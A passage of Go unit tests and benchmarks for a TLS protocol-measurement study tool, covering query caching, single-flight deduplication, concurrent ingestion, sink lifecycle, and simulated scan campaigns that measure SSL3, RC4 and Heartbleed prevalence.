		res analysis.QueryResult
		gen uint64
		hit bool
		err error
	}
	outs := make([]outcome, callers)
	var wg sync.WaitGroup
	for i := 0; i < callers; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			res, gen, hit, err := s.QueryInfo(query)
			outs[i] = outcome{res, gen, hit, err}
		}(i)
	}

	// The leader is inside the gated computation; everyone else must end up
	// parked on its flight, not in computations of their own.
	<-entered
	deadline := time.Now().Add(5 * time.Second)
	for s.flightWaiters() != callers-1 {
		if time.Now().After(deadline) {
			t.Fatalf("only %d of %d followers parked on the flight", s.flightWaiters(), callers-1)
		}
		time.Sleep(time.Millisecond)
	}
	select {
	case <-entered:
		t.Fatal("a second caller entered computation while the flight was open")
	default:
	}
	close(release)
	wg.Wait()

	if n := s.compiles.Load(); n != 1 {
		t.Fatalf("%d compilations for %d concurrent identical queries, want 1", n, callers)
	}
	misses := 0
	for i, o := range outs {
		if o.err != nil {
			t.Fatalf("caller %d: %v", i, o.err)
		}
		if !o.hit {
			misses++
		}
		if o.gen != outs[0].gen || o.res.Query != outs[0].res.Query ||
			len(o.res.Series.Points) != len(outs[0].res.Series.Points) {
			t.Fatalf("caller %d diverged: %+v vs %+v", i, o, outs[0])
		}
	}
	if misses != 1 {
		t.Fatalf("%d callers reported a miss, want exactly the leader", misses)
	}

	// The flight table drains once the flight lands.
	s.flightMu.Lock()
	open := len(s.flights)
	s.flightMu.Unlock()
	if open != 0 {
		t.Fatalf("%d flights still registered after completion", open)
	}
}

// TestQuerySingleflightDistinctQueries checks that different queries never
// rendezvous on each other: two gated computations must be in progress at
// once.
func TestQuerySingleflightDistinctQueries(t *testing.T) {
	s := singleflightStudy(t)
	entered := make(chan struct{}, 2)
	release := make(chan struct{})
	s.testComputeHook = func() {
		entered <- struct{}{}
		<-release
	}
	s.compiles.Store(0)

	var wg sync.WaitGroup
	for _, q := range []string{"count(total)", "count(established)"} {
		wg.Add(1)
		go func(q string) {
			defer wg.Done()
			if _, err := s.Query(q); err != nil {
				t.Error(err)
			}
		}(q)
	}
	for i := 0; i < 2; i++ {
		select {
		case <-entered:
		case <-time.After(5 * time.Second):
			t.Fatal("distinct queries serialized behind one flight")
		}
	}
	close(release)
	wg.Wait()
	if n := s.compiles.Load(); n != 2 {
		t.Fatalf("%d compilations for 2 distinct queries, want 2", n)
	}
}

// TestQuerySingleflightAcrossGenerations ensures a flight's key includes the
// generation: after ingestion advances the study, the same query text misses
// the cache and compiles again rather than reusing the stale flight result.
func TestQuerySingleflightAcrossGenerations(t *testing.T) {
	s := singleflightStudy(t)
	const query = "count(total)"
	if _, err := s.Query(query); err != nil {
		t.Fatal(err)
	}
	before := s.compiles.Load()

	donor := notary.NewAggregate()
	donor.Add(&notary.Record{Date: timeline.D(2012, time.March, 3)})
	if err := s.MergeShard(donor); err != nil {
		t.Fatal(err)
	}
	res, _, hit, err := s.QueryInfo(query)
	if err != nil || hit {
		t.Fatalf("post-ingest query: err=%v hit=%v, want a fresh miss", err, hit)
	}
	if got := s.compiles.Load(); got != before+1 {
		t.Fatalf("compiles %d → %d across a generation, want one more", before, got)
	}
	if res.Kind != "scalar" {
		t.Fatalf("unexpected result kind %q", res.Kind)
	}
}
