package core

import (
	"testing"
	"time"

	"tlsage/internal/notary"
	"tlsage/internal/registry"
	"tlsage/internal/timeline"
)

// memoShard builds a small shard against s so MergeShard can move the
// study's generation between queries.
func memoShard(s *Study, seed uint64) *notary.Aggregate {
	shard := s.NewShard()
	shard.UpdateMonth(timeline.M(2013, time.April), 10+seed, func(ms *notary.MonthStats) {
		ms.Total += int(10 + seed)
		ms.Established += int(6 + seed)
		ms.ByVersion[registry.VersionTLS12] += int(3 + seed)
	})
	return shard
}

// TestPlanMemo pins the compiled-plan memo: at a fixed generation, repeated
// queries compile once per distinct canonical text; after ingest moves the
// generation, the same text compiles once more against the new frame.
func TestPlanMemo(t *testing.T) {
	s := NewLiveStudy()
	if err := s.MergeShard(memoShard(s, 1)); err != nil {
		t.Fatal(err)
	}

	const q = "pct(version:tls12 / established)"
	want, err := s.Query(q)
	if err != nil {
		t.Fatal(err)
	}
	if got := s.PlanCompiles(); got != 1 {
		t.Fatalf("PlanCompiles after first query = %d, want 1", got)
	}
	for i := 0; i < 5; i++ {
		res, err := s.Query(q)
		if err != nil {
			t.Fatal(err)
		}
		if len(res.Series.Points) != len(want.Series.Points) {
			t.Fatalf("memoized query changed shape: %d points, want %d",
				len(res.Series.Points), len(want.Series.Points))
		}
	}
	if got := s.PlanCompiles(); got != 1 {
		t.Fatalf("PlanCompiles after repeated identical queries = %d, want 1", got)
	}

	// Textual variants normalize to the same canonical key.
	if _, err := s.Query("pct( version:tls12 / established )"); err != nil {
		t.Fatal(err)
	}
	if got := s.PlanCompiles(); got != 1 {
		t.Fatalf("PlanCompiles after whitespace variant = %d, want 1 (canonical key missed)", got)
	}

	// A distinct query compiles its own plan.
	if _, err := s.Query("count(established)"); err != nil {
		t.Fatal(err)
	}
	if got := s.PlanCompiles(); got != 2 {
		t.Fatalf("PlanCompiles after second distinct query = %d, want 2", got)
	}

	// Ingest moves the generation: the memoized plan is bound to the old
	// frame's columns, so the same text must recompile exactly once.
	if err := s.MergeShard(memoShard(s, 2)); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 3; i++ {
		if _, err := s.Query(q); err != nil {
			t.Fatal(err)
		}
	}
	if got := s.PlanCompiles(); got != 3 {
		t.Fatalf("PlanCompiles after generation moved = %d, want 3", got)
	}

	// The recompiled plan answers correctly for the merged content: both
	// shards contribute to the month the queries aggregate.
	res, err := s.Query("count(total)")
	if err != nil {
		t.Fatal(err)
	}
	if res.Value != float64(10+1+10+2) {
		t.Fatalf("count(total) after second shard = %v, want %v", res.Value, 10+1+10+2)
	}
}

// BenchmarkPlanMemoHit measures the memoized query path at a fixed
// generation — parse + memo lookup + evaluate, no analysis.Compile. The
// compiles metric stays at 1 no matter how many iterations run.
func BenchmarkPlanMemoHit(b *testing.B) {
	s := NewStudy(80)
	if err := s.Run(nil); err != nil {
		b.Fatal(err)
	}
	const q = "pct(version:tls12 / established)"
	if _, err := s.Query(q); err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := s.Query(q); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	b.ReportMetric(float64(s.PlanCompiles()), "compiles")
}
