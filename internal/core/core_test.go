package core

import (
	"bytes"
	"context"
	"errors"
	"strings"
	"sync"
	"testing"
	"time"

	"tlsage/internal/analysis"
	"tlsage/internal/notary"
	"tlsage/internal/registry"
	"tlsage/internal/scanner"
	"tlsage/internal/timeline"
)

var (
	studyOnce sync.Once
	study     *Study
)

func sharedStudy(t *testing.T) *Study {
	t.Helper()
	studyOnce.Do(func() {
		study = NewStudy(300)
		if err := study.Run(nil); err != nil {
			panic(err)
		}
	})
	return study
}

func TestStudyLifecycle(t *testing.T) {
	s := NewStudy(10)
	if _, err := s.Figures(); err == nil {
		t.Error("figures before Run should error")
	}
	if _, err := s.Scalars(); err == nil {
		t.Error("scalars before Run should error")
	}
	if _, err := s.Table2(); err == nil {
		t.Error("table2 before Run should error")
	}
	if _, err := s.FingerprintDurations(); err == nil {
		t.Error("durations before Run should error")
	}
}

func TestStudyFiguresAndScalars(t *testing.T) {
	s := sharedStudy(t)
	figs, err := s.Figures()
	if err != nil || len(figs) != 10 {
		t.Fatalf("figures: %v (%d)", err, len(figs))
	}
	fig, err := s.Figure(1)
	if err != nil || fig.ID != "Figure 1" {
		t.Errorf("Figure(1): %v %s", err, fig.ID)
	}
	if _, err := s.Figure(0); err == nil {
		t.Error("Figure(0) should error")
	}
	if _, err := s.Figure(11); err == nil {
		t.Error("Figure(11) should error")
	}
	scalars, err := s.Scalars()
	if err != nil || len(scalars) < 15 {
		t.Errorf("scalars: %v (%d)", err, len(scalars))
	}
	rep, err := s.Table2()
	if err != nil || rep.TotalFPs == 0 {
		t.Errorf("table2: %v", err)
	}
	st, err := s.FingerprintDurations()
	if err != nil || st.Total == 0 {
		t.Errorf("durations: %v", err)
	}
	if s.Aggregate() == nil || s.FingerprintDB() == nil {
		t.Error("accessors nil after Run")
	}
}

func TestStudyLogRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	s := NewStudy(40)
	s.Options.End = timeline.M(2012, time.December)
	if err := s.Run(&buf); err != nil {
		t.Fatal(err)
	}
	direct := s.Aggregate().TotalRecords()

	var s2 Study
	if err := s2.LoadLog(&buf); err != nil {
		t.Fatal(err)
	}
	if s2.Aggregate().TotalRecords() != direct {
		t.Errorf("log reload: %d records, want %d", s2.Aggregate().TotalRecords(), direct)
	}
	// Monthly stats agree.
	m := timeline.M(2012, time.June)
	a, b := s.Aggregate().Stats(m), s2.Aggregate().Stats(m)
	if a.Total != b.Total || a.Established != b.Established || a.AdvRC4 != b.AdvRC4 {
		t.Error("reloaded aggregate differs")
	}
}

// LoadLog shards the TSV parse across Options.Workers; every width must
// rebuild the identical aggregate, and extra sinks teed into the run must
// see every record.
func TestStudyLoadLogParallelAndSinks(t *testing.T) {
	var buf bytes.Buffer
	s := NewStudy(40)
	s.Options.End = timeline.M(2013, time.June)
	seen := 0
	counter := notary.SinkFunc(func(r *notary.Record) error {
		if r.Date.Year == 0 {
			t.Error("sink saw an empty record")
		}
		seen++
		return nil
	})
	if err := s.RunSinks(&buf, counter); err != nil {
		t.Fatal(err)
	}
	direct := s.Aggregate().TotalRecords()
	if seen != direct {
		t.Errorf("teed sink saw %d records, aggregate has %d", seen, direct)
	}

	log := buf.Bytes()
	for _, workers := range []int{1, 2, 8} {
		var s2 Study
		s2.Options.Workers = workers
		if err := s2.LoadLog(bytes.NewReader(log)); err != nil {
			t.Fatal(err)
		}
		if got := s2.Aggregate().TotalRecords(); got != direct {
			t.Errorf("workers=%d: %d records, want %d", workers, got, direct)
		}
		m := timeline.M(2012, time.August)
		a, b := s.Aggregate().Stats(m), s2.Aggregate().Stats(m)
		if b == nil || a.Total != b.Total || a.Established != b.Established || a.AdvRC4 != b.AdvRC4 {
			t.Errorf("workers=%d: reloaded aggregate differs", workers)
		}
	}
}

func TestStaticTables(t *testing.T) {
	if len(Table1()) != 6 {
		t.Error("Table 1 rows")
	}
	if len(Table3()) < 15 {
		t.Error("Table 3 rows")
	}
	if len(Table4()) < 10 {
		t.Error("Table 4 rows")
	}
	if len(Table5()) < 6 {
		t.Error("Table 5 rows")
	}
	if len(Table6()) < 10 {
		t.Error("Table 6 rows")
	}
}

func TestScanCampaignTwoSnapshots(t *testing.T) {
	if testing.Short() {
		t.Skip("network farm test")
	}
	run := func(d timeline.Date) *CampaignReport {
		c := &ScanCampaign{Date: d, Hosts: 250, Workers: 24, Seed: 7, Timeout: 3 * time.Second}
		rep, err := c.Run(context.Background())
		if err != nil {
			t.Fatal(err)
		}
		return rep
	}
	sep15 := run(timeline.D(2015, time.September, 15))
	may18 := run(timeline.D(2018, time.May, 13))

	// §5.1: SSL3 support declines, in the paper's ranges.
	if got := sep15.SSL3SupportPct(); got < 34 || got > 58 {
		t.Errorf("SSL3 support Sep 2015 = %0.1f%%, want ≈45%%", got)
	}
	if got := may18.SSL3SupportPct(); got > 32 {
		t.Errorf("SSL3 support May 2018 = %0.1f%%, want <25%%", got)
	}
	if may18.SSL3SupportPct() >= sep15.SSL3SupportPct() {
		t.Error("SSL3 support should decline")
	}
	// §5.3: RC4 chosen declines ≈11.2% → ≈3.4%.
	if got := sep15.RC4ChosenPct(); got < 6 || got > 17 {
		t.Errorf("RC4 chosen Sep 2015 = %0.1f%%, want ≈11%%", got)
	}
	if got := may18.RC4ChosenPct(); got > 8 {
		t.Errorf("RC4 chosen May 2018 = %0.1f%%, want ≈3.4%%", got)
	}
	// §5.2: CBC chosen declines ≈54% → ≈35%.
	if got := sep15.CBCChosenPct(); got < 40 || got > 68 {
		t.Errorf("CBC chosen Sep 2015 = %0.1f%%, want ≈54%%", got)
	}
	if got := may18.CBCChosenPct(); got < 20 || got > 50 {
		t.Errorf("CBC chosen May 2018 = %0.1f%%, want ≈35%%", got)
	}
	// §5.4: heartbeat ≈34% in 2018; vulnerability ≈0.32% (sampling noise at
	// 250 hosts allows 0–2 hosts).
	if got := may18.HeartbeatSupportPct(); got < 18 || got > 50 {
		t.Errorf("heartbeat support 2018 = %0.1f%%, want ≈34%%", got)
	}
	if got := may18.HeartbleedVulnerablePct(); got > 3 {
		t.Errorf("Heartbleed vulnerable 2018 = %0.1f%%, want ≈0.3%%", got)
	}
	// Export support exists but is not universal.
	if got := sep15.ExportSupportPct(); got <= 0 || got > 60 {
		t.Errorf("export support Sep 2015 = %0.1f%%", got)
	}

	scalars := ScanScalars(sep15, may18)
	if len(scalars) != 11 {
		t.Fatalf("scan scalars: %d", len(scalars))
	}
	for _, s := range scalars {
		if s.ID == "" || s.Name == "" {
			t.Errorf("malformed scalar %+v", s)
		}
	}
}

func TestCampaignReportFracEmpty(t *testing.T) {
	r := &CampaignReport{}
	if r.Frac(5) != 0 {
		t.Error("empty report Frac should be 0")
	}
}

func TestHeartbleedCheckMatchesGroundTruth(t *testing.T) {
	// The live exploit check over the farm must find exactly the hosts the
	// population configured as unpatched.
	c := &ScanCampaign{Date: timeline.D(2014, time.April, 20), Hosts: 300, Workers: 24, Seed: 3}
	rep, err := c.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if rep.VulnerableHosts != rep.GroundTruthVulnerable {
		t.Errorf("exploit check found %d vulnerable hosts, ground truth %d",
			rep.VulnerableHosts, rep.GroundTruthVulnerable)
	}
	// Mid-April 2014: disclosure was days ago, patching underway but far
	// from done — a meaningful fraction must still be vulnerable.
	if rep.HeartbleedVulnerablePct() < 2 {
		t.Errorf("vulnerable ≈2 weeks after disclosure = %0.1f%%, want >2%%", rep.HeartbleedVulnerablePct())
	}
	if rep.VulnerableHosts > 0 && rep.LeakedBytes == 0 {
		t.Error("vulnerable hosts leaked no bytes")
	}
	// SSL-Pulse-style RC4 support: most hosts still answer RC4-only in 2014.
	if got := rep.RC4SupportPct(); got < 40 {
		t.Errorf("RC4 support Apr 2014 = %0.1f%%, want high", got)
	}
}

func TestExtensionFigureAndVariants(t *testing.T) {
	s := sharedStudy(t)
	fig, err := s.ExtensionFigure()
	if err != nil || fig.ID != "Figure E1" {
		t.Fatalf("extension figure: %v %s", err, fig.ID)
	}
	shares, err := s.TLS13Variants()
	if err != nil || len(shares) == 0 {
		t.Fatalf("variant shares: %v", err)
	}
	// §6.4: the Google experimental variant dominates advertised variants.
	if shares[0].Variant != registry.VersionTLS13Google {
		t.Errorf("top variant = %v, want 0x7e02", shares[0].Variant)
	}
	sum := 0.0
	for _, v := range shares {
		sum += v.Share
	}
	if sum < 99.9 || sum > 100.1 {
		t.Errorf("variant shares sum to %0.1f", sum)
	}
	// Before Run, both error.
	var empty Study
	if _, err := empty.ExtensionFigure(); err == nil {
		t.Error("extension figure before Run should error")
	}
	if _, err := empty.TLS13Variants(); err == nil {
		t.Error("variants before Run should error")
	}
}

func TestPopularityWeightedCampaign(t *testing.T) {
	// The Alexa-style flavour samples the traffic universe: popular sites
	// are more modern, so SSL3 support is lower than in the host census.
	date := timeline.D(2016, time.June, 15)
	census := &ScanCampaign{Date: date, Hosts: 250, Workers: 24, Seed: 5}
	alexa := &ScanCampaign{Date: date, Hosts: 250, Workers: 24, Seed: 5, PopularityWeighted: true}
	cRep, err := census.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	aRep, err := alexa.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if aRep.SSL3SupportPct() >= cRep.SSL3SupportPct() {
		t.Errorf("Alexa SSL3 support (%0.1f%%) should be below census (%0.1f%%)",
			aRep.SSL3SupportPct(), cRep.SSL3SupportPct())
	}
	if aRep.RC4ChosenPct() > cRep.RC4ChosenPct() {
		t.Errorf("Alexa RC4 choice (%0.1f%%) should not exceed census (%0.1f%%)",
			aRep.RC4ChosenPct(), cRep.RC4ChosenPct())
	}
}

func TestScanSweepDeclines(t *testing.T) {
	sweep := &ScanSweep{
		Start:            timeline.M(2015, time.September),
		End:              timeline.M(2018, time.March),
		StepMonths:       10,
		HostsPerSnapshot: 180,
		Workers:          24,
		Seed:             11,
	}
	points, err := sweep.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if len(points) != 4 {
		t.Fatalf("got %d snapshots", len(points))
	}
	first, last := points[0], points[len(points)-1]
	if last.SSL3Support >= first.SSL3Support {
		t.Errorf("SSL3 support should decline: %0.1f → %0.1f", first.SSL3Support, last.SSL3Support)
	}
	if last.RC4Supported >= first.RC4Supported {
		t.Errorf("RC4 support should decline: %0.1f → %0.1f", first.RC4Supported, last.RC4Supported)
	}
	if last.CBCChosen >= first.CBCChosen {
		t.Errorf("CBC choice should decline: %0.1f → %0.1f", first.CBCChosen, last.CBCChosen)
	}
	var buf bytes.Buffer
	if err := RenderSweep(&buf, points); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "2015-09") {
		t.Error("sweep rendering incomplete")
	}
}

func TestStudyFrameCache(t *testing.T) {
	// Own study: this test mutates the aggregate, which must not leak into
	// the shared one.
	s := NewStudy(30)
	s.Options.End = timeline.M(2012, time.December)
	if err := s.Run(nil); err != nil {
		t.Fatal(err)
	}
	f1, err := s.Frame()
	if err != nil {
		t.Fatal(err)
	}
	f2, err := s.Frame()
	if err != nil {
		t.Fatal(err)
	}
	if f1 != f2 {
		t.Error("Frame rebuilt without any aggregate mutation")
	}
	// Mutating the aggregate through the public accessor must invalidate
	// the cached snapshot (the live-ingestion read path).
	donor := notary.NewAggregate()
	donor.Add(&notary.Record{Date: timeline.D(2012, time.March, 3)})
	s.Aggregate().Merge(donor)
	f3, err := s.Frame()
	if err != nil {
		t.Fatal(err)
	}
	if f3 == f1 {
		t.Error("stale frame served after aggregate mutation")
	}
	if f3.Generation() != s.Aggregate().Generation() {
		t.Error("rebuilt frame lags the aggregate generation")
	}
	var none Study
	if _, err := none.Frame(); err == nil {
		t.Error("Frame before Run should error")
	}
}

func TestStudyFigureByName(t *testing.T) {
	s := sharedStudy(t)
	fig, err := s.FigureByName("fingerprint-classes")
	if err != nil || fig.ID != "Figure 4" {
		t.Fatalf("FigureByName: %v %s", err, fig.ID)
	}
	ext, err := s.FigureByName("extensions")
	if err != nil || ext.ID != "Figure E1" {
		t.Fatalf("extensions figure: %v %s", err, ext.ID)
	}
	if upper, err := s.FigureByName("Fingerprint-Classes"); err != nil || upper.ID != "Figure 4" {
		t.Errorf("case-insensitive lookup: %v %s", err, upper.ID)
	}
	if _, err := s.FigureByName("nope"); err == nil {
		t.Error("unknown figure name should error")
	} else if !strings.Contains(err.Error(), "versions") {
		t.Errorf("miss error %q does not list the valid names", err)
	}
	impacts, err := s.Impacts()
	if err != nil || len(impacts) < 6 {
		t.Fatalf("Impacts: %v (%d rows)", err, len(impacts))
	}
}

// TestStudyQuery pins the ad-hoc query path: text and Expr forms answer
// identically, catalog-equivalent expressions match the figure engine, and
// errors surface for malformed input and unrun studies.
func TestStudyQuery(t *testing.T) {
	s := sharedStudy(t)
	res, err := s.Query("pct(version:tls12 / established)")
	if err != nil || res.Kind != "series" {
		t.Fatalf("Query: %v (%+v)", err, res.Kind)
	}
	fig, err := s.Figure(1)
	if err != nil {
		t.Fatal(err)
	}
	want, ok := fig.SeriesByName("TLSv12")
	if !ok {
		t.Fatal("no TLSv12 series")
	}
	if len(res.Series.Points) != len(want.Points) {
		t.Fatalf("query series has %d points, figure %d", len(res.Series.Points), len(want.Points))
	}
	for i, p := range want.Points {
		if res.Series.Points[i] != p {
			t.Fatalf("query diverges from the catalog at %v", p.Month)
		}
	}

	e, err := analysis.ParseQuery("over(null-negotiated / established)")
	if err != nil {
		t.Fatal(err)
	}
	byExpr, err := s.QueryExpr(e)
	if err != nil {
		t.Fatal(err)
	}
	byText, err := s.Query("over(null-negotiated / established)")
	if err != nil || byExpr.Value != byText.Value || byExpr.Kind != "scalar" {
		t.Errorf("QueryExpr %v/%v vs Query %v (err %v)", byExpr.Value, byExpr.Kind, byText.Value, err)
	}

	if _, err := s.Query("pct(bogus / total)"); err == nil {
		t.Error("bad column should error")
	}
	var unrun Study
	if _, err := unrun.Query("count(total)"); err == nil {
		t.Error("query before Run should error")
	}
}

// TestScanSweepParallelDeterministic pins the satellite guarantee: the
// bounded snapshot pool must produce byte-identical sweeps for every pool
// width, in chronological order.
func TestScanSweepParallelDeterministic(t *testing.T) {
	run := func(snapshotWorkers int) []SweepPoint {
		sweep := &ScanSweep{
			Start:            timeline.M(2016, time.February),
			End:              timeline.M(2017, time.February),
			StepMonths:       6,
			HostsPerSnapshot: 60,
			Workers:          16,
			Seed:             21,
			SnapshotWorkers:  snapshotWorkers,
		}
		points, err := sweep.Run(context.Background())
		if err != nil {
			t.Fatal(err)
		}
		return points
	}
	serial := run(1)
	parallel := run(3)
	if len(serial) != 3 {
		t.Fatalf("got %d snapshots, want 3", len(serial))
	}
	for i := range serial {
		if serial[i] != parallel[i] {
			t.Fatalf("snapshot %d differs between pool widths:\nserial:   %+v\nparallel: %+v",
				i, serial[i], parallel[i])
		}
	}
	for i := 1; i < len(parallel); i++ {
		if !parallel[i-1].Month.Before(parallel[i].Month) {
			t.Fatal("sweep points out of chronological order")
		}
	}
}

// closeTracker is a sink that records deliveries and closes, optionally
// failing at the Nth record — the failing-simulation probe for RunSinks'
// lifecycle guarantees.
type closeTracker struct {
	seen      int
	closed    int
	failAfter int // fail Observe once seen reaches this (0 = never)
	closeErr  error
}

func (c *closeTracker) Observe(r *notary.Record) error {
	c.seen++
	if c.failAfter > 0 && c.seen >= c.failAfter {
		return errors.New("injected sink failure")
	}
	return nil
}

func (c *closeTracker) Close() error { c.closed++; return c.closeErr }

// TestRunSinksClosesEverythingOnFailure pins the lifecycle fix: when the
// simulation fails mid-run, the TSV log writer and every extra sink must
// still be closed (flushed and detached), and the simulation error wins.
func TestRunSinksClosesEverythingOnFailure(t *testing.T) {
	var buf bytes.Buffer
	s := NewStudy(10)
	s.Options.End = timeline.M(2012, time.April)
	failer := &closeTracker{failAfter: 5}
	bystander := &closeTracker{}
	err := s.RunSinks(&buf, failer, bystander)
	if err == nil || !strings.Contains(err.Error(), "injected sink failure") {
		t.Fatalf("RunSinks error = %v, want the injected failure", err)
	}
	if failer.closed != 1 || bystander.closed != 1 {
		t.Errorf("sinks closed (%d, %d) times on failure, want (1, 1)",
			failer.closed, bystander.closed)
	}
	if buf.Len() == 0 {
		t.Error("log writer was not flushed on the failure path")
	}
	if s.Aggregate() != nil {
		t.Error("failed run must not install a partial aggregate")
	}

	// On a successful run a sink's close error is reported (first one wins),
	// and every sink still closes exactly once.
	s2 := NewStudy(5)
	s2.Options.End = timeline.M(2012, time.March)
	badClose := &closeTracker{closeErr: errors.New("close failed")}
	tail := &closeTracker{}
	err = s2.RunSinks(nil, badClose, tail)
	if err == nil || !strings.Contains(err.Error(), "close failed") {
		t.Fatalf("RunSinks close error = %v, want propagation", err)
	}
	if badClose.closed != 1 || tail.closed != 1 {
		t.Errorf("sinks closed (%d, %d) times, want (1, 1)", badClose.closed, tail.closed)
	}
	if badClose.seen == 0 || badClose.seen != tail.seen {
		t.Errorf("sinks saw (%d, %d) records", badClose.seen, tail.seen)
	}
}

// TestScanCampaignReceiverUnchanged pins the reuse fix: Run must resolve
// defaults into locals, leaving a zero-valued campaign byte-identical so one
// value can be reused across dates.
func TestScanCampaignReceiverUnchanged(t *testing.T) {
	c := &ScanCampaign{Date: timeline.D(2018, time.May, 13), Hosts: 60, Seed: 9}
	before := *c
	if _, err := c.Run(context.Background()); err != nil {
		t.Fatal(err)
	}
	if *c != before {
		t.Errorf("Run mutated its receiver:\nbefore: %+v\nafter:  %+v", before, *c)
	}
	if c.Workers != 0 || c.Timeout != 0 {
		t.Error("defaults written back into the campaign struct")
	}
}

// TestScanScalarsOrderAndLabels pins the row order (experiment-ID order,
// S2d before S2e) and the corrected S4a label: it measures the Sep 2015
// campaign and must say so.
func TestScanScalarsOrderAndLabels(t *testing.T) {
	sep := &CampaignReport{Date: timeline.D(2015, time.September, 15), Probes: map[string]scanner.Summary{}}
	may := &CampaignReport{Date: timeline.D(2018, time.May, 13), Probes: map[string]scanner.Summary{}}
	scalars := ScanScalars(sep, may)
	wantIDs := []string{"S1a", "S1b", "S2a", "S2b", "S2c", "S2d", "S2e", "S3a", "S3b", "S4a", "S4b"}
	if len(scalars) != len(wantIDs) {
		t.Fatalf("%d scalars, want %d", len(scalars), len(wantIDs))
	}
	for i, want := range wantIDs {
		if scalars[i].ID != want {
			t.Errorf("row %d: ID %s, want %s", i, scalars[i].ID, want)
		}
	}
	for _, s := range scalars {
		if strings.Contains(s.Name, "Aug 2015") {
			t.Errorf("%s still labeled Aug 2015: %q", s.ID, s.Name)
		}
	}
	s4a := scalars[9]
	if s4a.ID != "S4a" || !strings.Contains(s4a.Name, "Sep 2015") {
		t.Errorf("S4a label = %q, want a Sep 2015 label", s4a.Name)
	}
}

// TestStudyConcurrentIngestAndFrame hammers the live-ingest write path
// (IngestSink and MergeShard) while readers pull Frame snapshots and Counts
// — run under -race. Every observed generation must be monotonic and every
// frame self-consistent: the aggregate's generation counts records, so a
// frame's Total column must sum to exactly its generation.
func TestStudyConcurrentIngestAndFrame(t *testing.T) {
	const producers = 4
	const perProducer = 400
	const shardEvery = 64

	s := NewLiveStudy()
	var wg sync.WaitGroup
	for p := 0; p < producers; p++ {
		wg.Add(1)
		go func(p int) {
			defer wg.Done()
			sink := s.IngestSink()
			shard := notary.NewAggregate()
			for i := 0; i < perProducer; i++ {
				rec := &notary.Record{
					Date:         timeline.D(2012+i%3, time.Month(1+i%12), 1+i%27),
					Established:  i%2 == 0,
					ClientSuites: []uint16{0x002f},
				}
				// Odd producers batch through MergeShard, even producers
				// deliver record-at-a-time through the safe sink.
				if p%2 == 1 {
					shard.Add(rec)
					if shard.TotalRecords() >= shardEvery {
						if err := s.MergeShard(shard); err != nil {
							t.Errorf("merge: %v", err)
							return
						}
						shard = notary.NewAggregate()
					}
				} else if err := sink.Observe(rec); err != nil {
					t.Errorf("observe: %v", err)
					return
				}
			}
			if shard.TotalRecords() > 0 {
				if err := s.MergeShard(shard); err != nil {
					t.Errorf("final merge: %v", err)
				}
			}
		}(p)
	}

	stop := make(chan struct{})
	var readers sync.WaitGroup
	for r := 0; r < 3; r++ {
		readers.Add(1)
		go func() {
			defer readers.Done()
			var lastGen uint64
			for {
				select {
				case <-stop:
					return
				default:
				}
				f, err := s.Frame()
				if err != nil {
					t.Errorf("frame: %v", err)
					return
				}
				total := 0
				for i := range f.Months {
					total += f.Total[i]
				}
				if uint64(total) != f.Generation() {
					t.Errorf("torn frame: %d records at generation %d", total, f.Generation())
					return
				}
				if len(f.Established) != f.Len() || len(f.AdvRC4) != f.Len() {
					t.Errorf("frame columns misaligned with month axis")
					return
				}
				_, _, gen, err := s.Counts()
				if err != nil {
					t.Errorf("counts: %v", err)
					return
				}
				if gen < lastGen {
					t.Errorf("generation moved backwards: %d after %d", gen, lastGen)
					return
				}
				lastGen = gen
			}
		}()
	}

	wg.Wait()
	close(stop)
	readers.Wait()

	records, _, gen, err := s.Counts()
	if err != nil {
		t.Fatal(err)
	}
	want := producers * perProducer
	if records != want || gen != uint64(want) {
		t.Fatalf("final state: %d records at generation %d, want %d", records, gen, want)
	}
	f, err := s.Frame()
	if err != nil {
		t.Fatal(err)
	}
	if f.Generation() != uint64(want) {
		t.Errorf("final frame generation %d, want %d", f.Generation(), want)
	}
}

// TestStudyQueryCacheIntegration pins the generation-keyed result cache:
// repeats hit, canonicalization shares entries across text and Expr forms,
// ingestion invalidates by generation, and an aggregate replacement that
// lands on a colliding generation is kept apart by the epoch.
func TestStudyQueryCacheIntegration(t *testing.T) {
	s := NewStudy(30)
	s.Options.End = timeline.M(2012, time.December)
	if err := s.Run(nil); err != nil {
		t.Fatal(err)
	}
	cache := analysis.NewQueryCache(64, 1<<20)
	s.SetQueryCache(cache, "test")

	const src = "pct(version:tls12 / established)"
	res1, gen1, hit1, err := s.QueryInfo(src)
	if err != nil || hit1 {
		t.Fatalf("first query: err=%v hit=%v, want a miss", err, hit1)
	}
	res2, gen2, hit2, err := s.QueryInfo(src)
	if err != nil || !hit2 || gen2 != gen1 {
		t.Fatalf("repeat query: err=%v hit=%v gen=%d/%d, want a hit at the same generation",
			err, hit2, gen2, gen1)
	}
	if res1.Query != res2.Query || len(res1.Series.Points) != len(res2.Series.Points) {
		t.Fatal("cached result differs from the computed one")
	}
	for i := range res1.Series.Points {
		if res1.Series.Points[i] != res2.Series.Points[i] {
			t.Fatal("cached points differ from the computed ones")
		}
	}

	// The Expr form canonicalizes to the same key and shares the entry.
	e, err := analysis.ParseQuery(src)
	if err != nil {
		t.Fatal(err)
	}
	if _, _, hit, err := s.QueryExprInfo(e); err != nil || !hit {
		t.Errorf("Expr form of a cached query: err=%v hit=%v, want a hit", err, hit)
	}

	// A generation advance through live ingestion makes the entry
	// unreachable; the recomputed result matches the interpreter exactly.
	donor := notary.NewAggregate()
	donor.Add(&notary.Record{Date: timeline.D(2012, time.March, 3)})
	if err := s.MergeShard(donor); err != nil {
		t.Fatal(err)
	}
	res3, gen3, hit3, err := s.QueryInfo(src)
	if err != nil || hit3 || gen3 != gen1+1 {
		t.Fatalf("post-ingest query: err=%v hit=%v gen=%d, want a miss at generation %d",
			err, hit3, gen3, gen1+1)
	}
	f, err := s.Frame()
	if err != nil {
		t.Fatal(err)
	}
	want, err := f.Query(e)
	if err != nil {
		t.Fatal(err)
	}
	for i := range want.Series.Points {
		if res3.Series.Points[i] != want.Series.Points[i] {
